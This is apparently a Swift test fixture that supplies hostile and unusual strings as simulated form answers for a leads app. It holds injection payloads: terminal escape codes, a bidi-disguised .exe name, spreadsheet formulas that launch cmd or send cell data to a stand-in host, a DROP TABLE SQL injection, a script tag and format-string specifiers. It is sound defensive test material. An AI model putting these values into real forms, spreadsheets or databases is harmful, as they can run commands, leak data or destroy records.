/// Answers as somebody with bad intentions, or a strange keyboard, would give them.
public enum HostileText {
    /// Each with what it attacks.
    public static let names: [String] = [
        // Clears the screen and sets the title of a terminal.
        "\u{1B}[2J\u{1B}[H\u{1B}]0;owned\u{07}Escape Artist",
        // Turns the rest of the line around.
        "Ann \u{202E}gnp.exe\u{202C} Bidi",
        // Formulas in a spreadsheet program.
        "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")", "+1+1|cmd' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3",
        // Wide, joined and stacked characters.
        "👩‍👩‍👧‍👦 The 🇺🇦 Family 👍🏽", "Z̴̧͕̏a̵̛͙l̶̰̃g̷̡̈o̸ Ž̶", "ﷺ بسم الله الرحمن",
        "משה כהן (Moshe)", "\u{200B}\u{200D}\u{FEFF}Zero Width\u{2060}",
        // C1 controls, carriage return, tabs, a NUL and line ends.
        "\u{9B}31mRed\u{85}", "Over\rwrite", "Tab\there\nand\u{0}there", "line\u{2028}separator",
        String(repeating: "Very long name ", count: 200), String(repeating: "ﷺ", count: 500),
        "'; DROP TABLE customer; --", "<script>alert(1)</script>", "%s%n%x", "   ", "\\u001b[31m",
    ]

    /// All answers of a form with full name, phone, e-mail and company, by the lead's number.
    static func answers(number: Int) -> [SimulatedAnswer] {
        let text = names[number % names.count]
        let other = names[(number / names.count + number + 7) % names.count]
        return [
            SimulatedAnswer(name: "full_name", values: [text]),
            SimulatedAnswer(name: "phone_number", values: ["+1 (212) 555-0\(100 + number % 100)\u{1B}[31m"]),
            SimulatedAnswer(name: "email", values: ["\u{202E}hostile\(number)@example.com\n"]),
            SimulatedAnswer(name: "company_name", values: [other]),
            SimulatedAnswer(name: "message\u{1B}[5m", values: [text, other]),
        ]
    }
}
